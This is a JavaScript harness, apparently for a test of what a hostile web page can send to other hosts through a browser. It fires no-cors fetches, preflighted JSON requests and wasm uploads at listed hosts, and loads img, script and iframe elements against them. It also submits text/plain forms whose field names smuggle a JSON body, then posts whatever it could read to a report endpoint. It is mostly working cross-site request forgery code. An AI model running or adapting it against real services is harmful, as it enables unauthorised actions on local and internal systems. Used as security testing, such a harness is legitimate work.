// What a page of somebody else tries on a host: everything that a browser lets it send.
// HOSTS and ATTACKS come before it; ATTACKS are {method, path, body, upload}.
const PATIENCE_MS = 8000;
const read = [];
let sent = 0;

// The beginning of what came back, if a page may see it.
async function seen(response) {
  if (response.type === "opaque" || response.type === "opaqueredirect") return null;
  const first = await response.body?.getReader().read();
  return response.status + " " + new TextDecoder().decode(first?.value).slice(0, 200);
}

async function send(what, url, options) {
  sent += 1;
  const patience = new AbortController();
  const timer = setTimeout(() => patience.abort(), PATIENCE_MS);
  try {
    const text = await seen(await fetch(url, { ...options, signal: patience.signal }));
    if (text !== null) read.push(what + ": " + text);
  } catch { /* Refused by the browser, or nothing that it may see. */ }
  clearTimeout(timer);
}

function form(attack, component) {
  const form = new FormData();
  form.append("pack", component, "pack.wasm");
  return attack.upload ? form : attack.body;
}

async function simple(base, attack, component) {
  const url = base + attack.path;
  const name = attack.method + " " + url;
  if (attack.method === "GET") return send("simple " + name, url, { mode: "no-cors" });
  const post = (type, body) => send("simple " + type + " " + name, url, {
    method: "POST", mode: "no-cors", body,
    headers: type === "" ? {} : { "content-type": type },
  });
  await post("", new Blob([attack.body]));
  await post("text/plain", attack.body);
  await post("application/x-www-form-urlencoded", attack.body);
  await send("form " + name, url,
    { method: "POST", mode: "no-cors", body: form(attack, component) });
}

async function asked(base, attack, component) {
  const url = base + attack.path;
  const name = attack.method + " " + url;
  if (attack.method === "GET") return send("asked " + name, url, {});
  const type = attack.path.includes("batch") || attack.path.includes("import")
    ? "application/x-ndjson" : "application/json";
  const headers = attack.upload ? {} : { "content-type": type };
  const body = form(attack, component);
  await send("asked " + name, url, { method: attack.method, headers, body });
  headers["amends-request"] = "1";
  await send("asked " + name, url, { method: attack.method, headers, body });
}

// Elements, which send requests of their own kinds. What a frame shows is read if it may be.
function element(make, frame) {
  sent += 1;
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, PATIENCE_MS);
    const done = () => { clearTimeout(timer); resolve(); };
    const made = make(done);
    document.body.append(made);
    if (made.submit) made.submit();
  }).then(() => {
    try {
      const text = frame?.contentDocument?.body?.innerText;
      if (text) read.push("frame: " + text.slice(0, 200));
    } catch { /* Of another origin. */ }
  });
}

async function elements(base, attack) {
  const url = base + attack.path;
  if (attack.method === "GET") {
    for (const tag of ["img", "script", "iframe"]) {
      let made;
      await element((done) => {
        made = document.createElement(tag);
        made.onload = made.onerror = done;
        made.src = url;
        return made;
      });
      try {
        const text = made.contentDocument?.body?.innerText;
        if (text) read.push("frame " + url + ": " + text.slice(0, 200));
      } catch { /* Of another origin. */ }
    }
    return;
  }
  for (const enctype of ["text/plain", "multipart/form-data"]) {
    const frame = document.createElement("iframe");
    frame.name = "frame" + sent;
    document.body.append(frame);
    await element((done) => {
      frame.onload = frame.onerror = done;
      const made = document.createElement("form");
      Object.assign(made, { method: "POST", action: url, enctype, target: frame.name });
      // `NAME=VALUE` as text/plain: the name is the text up to a `=` that does not harm.
      const field = document.createElement("input");
      Object.assign(field, { name: attack.body.replace(/}\s*$/, ',"tags":{"a":"'), value: '"}}' });
      made.append(field);
      return made;
    }, frame);
  }
}

async function main() {
  const component = await (await fetch("/attack/component.wasm")).blob();
  for (const base of HOSTS) {
    for (const way of [simple, asked, elements]) {
      await Promise.all(ATTACKS.map((attack) => way(base, attack, component)));
    }
  }
  await fetch("/attack/report", { method: "POST", body: JSON.stringify({ sent, read }) });
}
main();
